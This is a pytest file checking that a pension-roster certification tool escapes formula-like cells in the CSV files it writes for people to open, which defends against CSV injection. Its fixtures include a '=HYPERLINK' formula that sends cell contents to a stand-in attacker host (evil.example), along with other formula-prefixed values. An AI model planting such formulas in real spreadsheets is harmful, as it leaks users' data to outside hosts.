"""The batch's files for people to open never hold a cell Excel or WPS would run as a formula
(CSV injection, docs/security.md): text from the agencies' files that begins with `=`, `+`, `-`,
`@`, a tab or a carriage return is written with a leading `'`, as `zige.spreadsheet.formula_safe`
writes it in the site's downloads; everything else is written as it is."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from zige.engine.pipeline import CertifyConfig, certify
from zige.ids import check_digit
from zige.spreadsheet import formula_safe

AS_OF = date(2026, 3, 31)


def make_id(region: str, born: str, seq: int) -> str:
    first17 = f"{region}{born}{seq:03d}"
    return first17 + check_digit(first17)


A = make_id("140105", "19500101", 123)
B = make_id("140106", "19491231", 2)
C = make_id("140107", "19510203", 45)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _write_csv(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)


def test_rejects_csv_writes_formula_like_values_as_text(tmp_path: Path) -> None:
    """A rejected cell such as `=HYPERLINK(...)`, `+1+1`, `-2+3`, `@SUM(...)` or one beginning with
    a tab (a CR: tests/unit/test_spreadsheet.py) gets the leading `'` of `formula_safe`; the file's name and its header (文件中的列名)
    likewise; an ordinary rejected value, the row, the field label and the reason code do not change."""
    roster = tmp_path / "=cmd名册.csv"
    _write_csv(
        roster,
        [
            ["个人编号", "姓名", "身份证号", "单位编号", "月养老金", "上次认证日期"],
            ["P01", "张三", HYPERLINK, "U01", "3000", ""],  # 2: bad_id_format
            ["P02", "李四", A, "U01", "+1+1", ""],  # 3: bad_amount
            ["P03", "王五", B, "U01", "-2+3", ""],  # 4: bad_amount
            ["P04", "赵六", C, "U01", "3000", "@SUM(1,2)"],  # 5: bad_date
            ["P05", "钱七", make_id("140108", "19520304", 7), "U01", "\t=1+1", ""],  # 6
            ["P07", "周九", make_id("140110", "19540506", 9), "U01", "三千", ""],  # 7: as it is
        ],
    )
    feeds = tmp_path / "feeds"
    feeds.mkdir()
    certify(CertifyConfig(roster=roster, feeds=feeds, as_of=AS_OF, out=tmp_path / "out"))
    header, *rows = _rows(tmp_path / "out" / "rejects.csv")
    assert header == ["file", "row", "field", "value", "reason", "原因说明", "文件中的列名"]
    by_row = {int(r[1]): r for r in rows}
    assert {n: by_row[n][3] for n in by_row} == {
        2: "'" + HYPERLINK,
        3: "'+1+1",
        4: "'-2+3",
        5: "'@SUM(1,2)",
        6: "'\t=1+1",
        7: "三千",
    }
    assert {r[0] for r in rows} == {"'=cmd名册.csv"}
    assert [(r[2], r[4], r[6]) for r in rows[:2]] == [
        ("身份证号", "bad_id_format", "身份证号"),
        ("月养老金", "bad_amount", "月养老金"),
    ]
    # The same text as the site's rejects download (`formula_safe`) writes for the same cells.
    assert [r[3] for r in rows] == [
        formula_safe(v) for v in (HYPERLINK, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "三千")
    ]


def _typo(ident: str) -> str:
    """The ID with its 5th digit changed: fails the check digit, one edit away from `ident`."""
    return ident[:4] + str((int(ident[4]) + 1) % 10) + ident[5:]


def test_suggested_matches_write_names_as_text_and_results_keep_the_rosters_values(tmp_path: Path) -> None:
    """A roster name or 个人编号 beginning with a formula character (the roster is typed by
    people) is written formula-safe in suggested_matches.csv (a file for people), and so are the
    feed's name and its broken ID there; results.csv and actions.csv, which programs join on
    person_no (spec §7), keep the roster's values exactly."""
    roster = tmp_path / "roster.csv"
    _write_csv(
        roster,
        [
            ["个人编号", "姓名", "身份证号", "单位编号", "待遇状态", "月养老金"],
            ["P01", HYPERLINK, A, "U01", "正常", "3000"],
            ["@P02", "+李四", B, "-U02", "正常", "3000"],
            ["P03", "王五", C, "U01", "正常", "3000"],
        ],
    )
    feeds = tmp_path / "feeds"
    feeds.mkdir()
    _write_csv(
        feeds / "rail_2026.csv",
        [
            ["身份证号", "姓名", "乘车日期"],
            [_typo(A), HYPERLINK, "2026-03-01"],
            [_typo(B), "+李四", "2026-03-02"],
            [_typo(C), "王五", "2026-03-03"],
        ],
    )
    certify(CertifyConfig(roster=roster, feeds=feeds, as_of=AS_OF, out=tmp_path / "out"))

    header, *results = _rows(tmp_path / "out" / "results.csv")
    people = {r[header.index("id_number")]: r for r in results}
    assert set(people) == {A, B, C}
    assert [people[i][header.index("name")] for i in (A, B, C)] == [HYPERLINK, "+李四", "王五"]
    assert [people[i][header.index("person_no")] for i in (A, B, C)] == ["P01", "@P02", "P03"]
    assert [people[i][header.index("unit_no")] for i in (A, B, C)] == ["U01", "-U02", "U01"]
    actions_header, *actions = _rows(tmp_path / "out" / "actions.csv")
    person_nos = {r[header.index("person_no")] for r in results}
    assert {a[actions_header.index("person_no")] for a in actions} <= person_nos

    header, *lines = _rows(tmp_path / "out" / "suggested_matches.csv")
    col = {name: header.index(name) for name in header}
    got = {
        line[col["suggested_id"]]: tuple(line[col[c]] for c in ("name", "person_no", "recipient_name"))
        for line in lines
    }
    assert got == {
        A: ("'" + HYPERLINK, "P01", "'" + HYPERLINK),
        B: ("'+李四", "'@P02", "'+李四"),
        C: ("王五", "P03", "王五"),
    }
    assert {line[col["original_id"]] for line in lines} == {_typo(A), _typo(B), _typo(C)}
